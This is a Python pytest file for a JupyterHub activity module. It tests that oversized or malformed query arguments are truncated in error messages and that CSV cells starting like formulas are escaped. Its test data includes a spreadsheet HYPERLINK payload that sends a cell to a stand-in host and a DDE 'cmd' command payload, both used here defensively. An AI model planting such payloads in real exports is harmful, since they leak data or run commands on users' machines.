"""The activity routes' own rules: query arguments repeated short in their errors, and the
history CSV whose text cells a spreadsheet never takes for a formula."""

from __future__ import annotations

from datetime import date
from types import SimpleNamespace

import pytest

from stellars.adapters.jupyterhub.web.activity import (
    FORMULA_STARTS,
    _day_argument,
    _whole_argument,
    spreadsheet_text,
)
from stellars.domain.errors import InvalidValue


def with_arguments(**arguments: str) -> SimpleNamespace:
    """What the helpers read of a handler: `get_argument(name, default)`."""
    return SimpleNamespace(get_argument=lambda name, default: arguments.get(name, default))


def test_query_arguments_are_taken_as_before():
    handler = with_arguments(offset="20", start="2026-05-01")
    assert _whole_argument(handler, "offset", 0, 0, 100) == 20
    assert _whole_argument(handler, "limit", 7, 1, 100) == 7
    assert _day_argument(handler, "start") == date(2026, 5, 1)


@pytest.mark.parametrize(
    ("arguments", "reader", "message"),
    [
        (
            {"offset": "9" * 5000 + "x"},
            lambda handler: _whole_argument(handler, "offset", 0, 0, 100),
            f"offset: must be a whole number, got '{'9' * 37}...'",
        ),
        (
            {"offset": "9" * 4000},
            lambda handler: _whole_argument(handler, "offset", 0, 0, 100),
            f"offset: must be between 0 and 100, got {'9' * 37}...",
        ),
        (
            {"start": "2026-13-01" * 1000},
            lambda handler: _day_argument(handler, "start"),
            f"start: must be a date as YYYY-MM-DD, got '{('2026-13-01' * 4)[:37]}...'",
        ),
        (
            {"start": "x\ny"},
            lambda handler: _day_argument(handler, "start"),
            "start: must be a date as YYYY-MM-DD, got 'x\\ny'",
        ),
    ],
)
def test_a_bad_argument_is_repeated_only_in_part(arguments, reader, message):
    with pytest.raises(InvalidValue) as error:
        reader(with_arguments(**arguments))
    assert str(error.value) == message


def test_the_formula_starts_are_owasps():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=hyperlink("https:"&char(47)&char(47)&"x.example?"&a3)',
         '\'=hyperlink("https:"&char(47)&char(47)&"x.example?"&a3)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@sum(a1)", "'@sum(a1)"),
        ("\tann", "'\tann"),
        ("\rann", "'\rann"),
        ("ann", "ann"),
        ("ann=1", "ann=1"),
        ("a-b@c", "a-b@c"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)  # fmt: skip
def test_a_cell_that_starts_like_a_formula_is_made_text(text, cell):
    assert spreadsheet_text(text) == cell
